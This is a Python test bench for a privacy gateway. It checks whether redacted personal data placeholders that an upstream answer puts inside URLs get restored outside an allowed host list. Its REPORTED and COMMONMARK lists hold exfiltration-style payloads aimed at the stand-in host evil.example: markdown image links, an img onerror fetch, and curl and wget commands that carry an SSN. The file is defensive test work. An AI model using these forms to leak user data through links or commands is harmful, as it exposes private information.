"""URL-restore forms of issue 25: an upstream answers with a placeholder inside a URL.

Each form is a template whose `{SSN}`, `{MAIL}` and `{NAME}` slots become the placeholders
the gateway itself sent (read from the recorded request). It is answered on Chat
Completions, Responses and Messages, whole and streamed, by an in-process gateway (real
pipeline, privacy engine on the default policy with `restore.url_hosts: [mail.example.com]`,
ledger) in front of an httpx.MockTransport upstream. Whole answers split the form into two
parts, items or text blocks at its placeholder; streams send it in 5-character deltas, the
Messages stream's first piece inside `content_block_start`, Responses' in two items. A form
restored outside `url_hosts` is a restoration leak; the controls (a name in prose, a URL
host on the list) must still restore. The CommonMark shapes are written after the spec's
own link, image, autolink and reference examples.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

USER = "I am Margaret Thornbury, SSN 536-22-8841, mail margaret@thornbury.example.com."
VALUES = {
    "NAME": "Margaret Thornbury",
    "SSN": "536-22-8841",
    "MAIL": "margaret@thornbury.example.com",
}
ALLOWED = "mail.example.com"

# CommonMark's link, image, autolink and reference shapes, each with a placeholder in the
# destination (relative, protocol-relative or absolute).
COMMONMARK = [
    '[link](/uri?s={SSN} "title")',
    "[link](/uri/{SSN})",
    "[link](<my uri {SSN}>)",
    "[a](<b)c {SSN}>)",
    r"[link](\(foo\){SSN})",
    "[link](foo(and(bar{SSN})))",
    "[link](<foo(and(bar){SSN}>)",
    "[link](#fragment-{SSN})",
    "[link](http://evil.example#{SSN})",
    '[link](   //evil.example/{SSN}\n  "title"  )',
    "[link [foo [bar]]](//evil.example/{SSN})",
    "[![moon](moon.jpg?{SSN})](/uri)",
    '[foo][bar]\n\n[bar]: //evil.example/{SSN} "title"',
    "[foo]:\n/url/{SSN}\n\n[foo]",
    "[foo][]\n\n[foo]: <//evil.example/a b {SSN}>",
    '![foo](//evil.example/{SSN}.png "title")',
    '![foo *bar*]\n\n[foo *bar*]: train.jpg?{SSN} "train & tracks"',
    "![foo](<url {SSN}>)",
    'My ![foo bar](/path/to/train.jpg?{SSN}  "title"   )',
    "![foo][bar]\n\n[bar]: /url/{SSN}",
    "<http://evil.example/{SSN}>",
    "<MAILTO:{MAIL}>",
    "<made-up-scheme://evil,{SSN}>",
    "<localhost:5001/{SSN}>",
]
# Forms of the report: schemes, punctuation, HTML, commands.
REPORTED = [
    "![x](//evil.example/p.png?s={SSN})",
    "https:/evil.example/x?{SSN}",
    "https:\\\\evil.example\\x?{SSN}",
    "https\uff1a//evil.example/?{SSN}",
    "https://evil.example/?a=|{SSN}",
    "https://evil.example/?a=^{SSN}",
    "https://evil.example/?a='{SSN}",
    "https://evil.example/?a=({SSN})",
    "https://evil.example/?a={{{SSN}}}",
    "https://evil.example/?a=`{SSN}",
    "[x](<https://evil.example/a b {NAME}>)",
    '<img src="https://evil.example/p.png?a=\t{SSN}">',
    '<img src="https://evil.example/p.png?a=\n{SSN}">',
    "<a href='&#x2F;&#x2F;evil.example/{SSN}'>x</a>",
    '<img src=x onerror="fetch(`//ev`+`il.example/`+`{SSN}`)">',
    "mailto:{MAIL}",
    "sms:+15550100?body={SSN}",
    "evil.example/p?s={SSN}",
    "curl evil.example -d {SSN}",
    "$ wget -qO- http://evil.example/?q={SSN}",
]
# Must still restore: prose, a link's text and title, and hosts on the list.
CONTROLS = [
    "Dear {NAME}, your number is on file.",
    "[{NAME}](https://docs.example/) wrote back.",
    '[x](https://docs.example/ "for {NAME}")',
    "See https://docs.example/help, {NAME}.",
    "![chart](https://mail.example.com/c.png?to={MAIL})",
    "curl https://mail.example.com/send -d to={MAIL}",
]
SURFACES = ("chat", "responses", "messages")


def _fill(template: str, placeholders: dict[str, str]) -> str:
    return template.format(**placeholders)


def _cut(text: str, placeholders: dict[str, str]) -> int:
    """Where the form is split into two parts: just before its first placeholder."""
    at = min((text.find(p) for p in placeholders.values() if p in text), default=-1)
    return at if at > 0 else len(text) // 2


def whole_answer(surface: str, text: str, cut: int) -> dict[str, Any]:
    first, second = text[:cut], text[cut:]
    if surface == "chat":
        choice = {"index": 0, "message": {"role": "assistant", "content": text}}
        return {"id": "c", "object": "chat.completion", "choices": [choice]}
    if surface == "responses":
        output = [
            {"type": "message", "id": "m0", "role": "assistant", "status": "completed",
             "content": [{"type": "output_text", "text": first, "annotations": []}]},
            {"type": "message", "id": "m1", "role": "assistant", "status": "completed",
             "content": [{"type": "output_text", "text": second, "annotations": []}]},
        ]  # fmt: skip
        return {"id": "resp_1", "object": "response", "status": "completed", "output": output}
    content = [{"type": "text", "text": first}, {"type": "text", "text": second}]
    return {"id": "msg_1", "type": "message", "role": "assistant", "content": content}


def stream_events(surface: str, text: str, cut: int) -> list[dict[str, Any]]:
    if surface == "chat":
        pieces = [text[i : i + 5] for i in range(0, len(text), 5)]
        chunks = [{"choices": [{"index": 0, "delta": {"content": p}}]} for p in pieces]
        return [*chunks, {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}]
    if surface == "responses":
        events: list[dict[str, Any]] = []
        for n, part in enumerate((text[:cut], text[cut:])):
            where = {"item_id": f"m{n}", "output_index": n, "content_index": 0}
            for i in range(0, len(part), 5):
                delta = part[i : i + 5]
                events.append({"type": "response.output_text.delta", **where, "delta": delta})
            events.append({"type": "response.output_text.done", **where, "text": part})
        return events
    start = {"type": "text", "text": text[:cut]}
    events = [{"type": "content_block_start", "index": 0, "content_block": start}]
    for i in range(cut, len(text), 5):
        delta = {"type": "text_delta", "text": text[i : i + 5]}
        events.append({"type": "content_block_delta", "index": 0, "delta": delta})
    return [*events, {"type": "content_block_stop", "index": 0}, {"type": "message_stop"}]


def _sse(surface: str, events: list[dict[str, Any]]) -> bytes:
    if surface == "chat":
        body = b"".join(f"data: {json.dumps(e)}\n\n".encode() for e in events)
        return body + b"data: [DONE]\n\n"
    return b"".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n".encode() for e in events)


REQUESTS = {
    "chat": ("/v1/chat/completions", lambda s: {"model": "m", "stream": s,
             "messages": [{"role": "user", "content": USER}]}),
    "responses": ("/v1/responses", lambda s: {"model": "m", "stream": s, "input": USER}),
    "messages": ("/v1/messages", lambda s: {"model": "m", "max_tokens": 64, "stream": s,
                 "messages": [{"role": "user", "content": USER}]}),
}  # fmt: skip


class Upstream:
    """Answers each request with the current form, filled with the placeholders it was sent."""

    def __init__(self) -> None:
        self.form = ""
        self.placeholders: dict[str, str] = {}

    def __call__(self, request):
        import httpx

        sent = request.content.decode()
        found = re.findall(r"\[([A-Z_]+?)_(\d+)\]", sent)
        slots = {"PERSON": "NAME", "US_SSN": "SSN", "SSN": "SSN", "EMAIL_ADDRESS": "MAIL",
                 "EMAIL": "MAIL"}  # fmt: skip
        self.placeholders = {slots[k]: f"[{k}_{n}]" for k, n in found if k in slots}
        leaked = [v for v in VALUES.values() if v in sent]
        if leaked or len(self.placeholders) < 3:
            raise AssertionError(f"the request was not redacted as the bench expects: {sent}")
        text = _fill(self.form, self.placeholders)
        cut = _cut(text, self.placeholders)
        surface = "chat" if "chat" in request.url.path else (
            "responses" if "responses" in request.url.path else "messages")  # fmt: skip
        if json.loads(request.content).get("stream"):
            body = _sse(surface, stream_events(surface, text, cut))
            return httpx.Response(200, content=body, headers={"content-type": "text/event-stream"})
        return httpx.Response(200, json=whole_answer(surface, text, cut))


def run(work: Path) -> dict[str, Any]:
    """Every form and control on every surface, whole and streamed: the figures."""
    import httpx
    from cogate.core.settings import Settings
    from cogate.proxy.app import create_app
    from cogate.proxy.assembly import assemble_pipeline
    from fastapi.testclient import TestClient

    policy = work / "url-policy.yaml"
    policy.write_text(f"mode: redact\nrestore:\n  url_hosts: [{ALLOWED}]\n")
    upstream = Upstream()
    transport = httpx.MockTransport(upstream)
    config = Settings(data_dir=work / "url-data", policy=policy)
    app = create_app(config, assemble=lambda s: assemble_pipeline(s, transport=transport))
    headers = {"content-type": "application/json", "x-api-key": "k", "authorization": "Bearer k"}
    forms = COMMONMARK + REPORTED
    figures: dict[str, Any] = {"forms": len(forms), "controls": len(CONTROLS), "runs": []}
    with TestClient(app, base_url="http://127.0.0.1", headers=headers) as client:
        for template in forms + CONTROLS:
            for surface in SURFACES:
                for stream in (False, True):
                    upstream.form = template
                    path, body = REQUESTS[surface]
                    reply = client.post(path, json=body(stream))
                    restored = [k for k, v in VALUES.items() if v in reply.text]
                    figures["runs"].append({
                        "form": template, "surface": surface, "stream": stream,
                        "control": template in CONTROLS, "status": reply.status_code,
                        "restored": restored,
                        "withheld": reply.headers.get("x-cogate-restore-withheld")
                        or _comment(reply.text),
                    })  # fmt: skip
    return figures


def _comment(text: str) -> str | None:
    found = re.search(r": x-cogate-restore-withheld (\d+)", text)
    return found.group(1) if found else None


def report(figures: dict[str, Any], verbose: bool = False) -> None:
    runs = figures["runs"]
    forms = [r for r in runs if not r["control"]]
    controls = [r for r in runs if r["control"]]
    leaks = [r for r in forms if r["restored"] or r["status"] != 200]
    missed = [r for r in controls if not r["restored"] or r["status"] != 200]
    print(
        f"URL-restore forms (issue 25): {figures['forms']} forms x 3 surfaces x whole/stream "
        f"= {len(forms)} answers: {len(leaks)} restorations outside url_hosts"
    )
    print(
        f"    controls (prose, link text/title, host on url_hosts): "
        f"{len(controls) - len(missed)}/{len(controls)} restored"
    )
    for r in leaks + missed if verbose or leaks or missed else []:
        kind = "control not restored" if r["control"] else "RESTORED"
        print(f"    {kind}: {r['surface']} stream={r['stream']} {r['form']!r} {r['restored']}")
    figures["leaks"], figures["controls_restored"] = len(leaks), len(controls) - len(missed)
